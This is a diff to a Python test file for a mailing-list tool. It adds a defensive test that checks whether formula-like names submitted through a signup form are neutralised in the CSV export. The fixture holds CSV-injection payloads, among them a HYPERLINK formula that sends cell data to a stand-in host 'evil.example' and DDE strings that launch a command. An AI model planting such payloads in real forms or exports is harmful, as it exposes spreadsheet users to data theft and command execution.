@@ -11,6 +11,8 @@ export --json`, `forget`, `remove --erase` and `import` are run as the CLI.
 
 from __future__ import annotations
 
+import csv
+import io
 import ipaddress
 import itertools
 import json
@@ -734,3 +736,32 @@ def test_export_without_an_address_prints_everyone_as_csv_or_json(shared: WebSer
     assert out.splitlines()[0] == "email,name,state,created"
     assert [r["email"] for r in as_json] == sorted(states(shared.site))
     assert {"email", "name", "state", "created"} == set(as_json[0])
+
+
+FORMULAS = {
+    "formel@example.org": '=HYPERLINK("http://evil.example/?d="&A3,"Klikk")',
+    "pluss@example.org": "+cmd|' /C calc'!A0",
+    "minus@example.org": "-2+3+cmd|' /C calc'!A0",
+    "krolla@example.org": "@SUM(1+9)*cmd|' /C calc'!A0",
+}
+"""Names a stranger sends through the form that a spreadsheet would run as formulas."""
+
+
+def test_a_formula_sent_as_a_name_through_the_form_is_text_in_the_export(
+    shared: WebServer,
+) -> None:
+    site = shared.site
+    for address, name in FORMULAS.items():
+        assert subscribe(shared, address, name).status_code == 200
+    assert all(states(site)[address] == "pending" for address in FORMULAS)
+
+    exported = site.run("subscribers", "export").stdout
+
+    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported))}
+    for address, name in FORMULAS.items():
+        # A leading single quote: the spreadsheet shows the text and runs nothing.
+        assert rows[address]["name"] == "'" + name
+        assert rows[address]["state"] == "pending"
+    # The database keeps the name as it was typed.
+    held = json.loads(site.run("subscribers", "export", "--json").stdout)
+    assert {r["email"]: r["name"] for r in held if r["email"] in FORMULAS} == FORMULAS
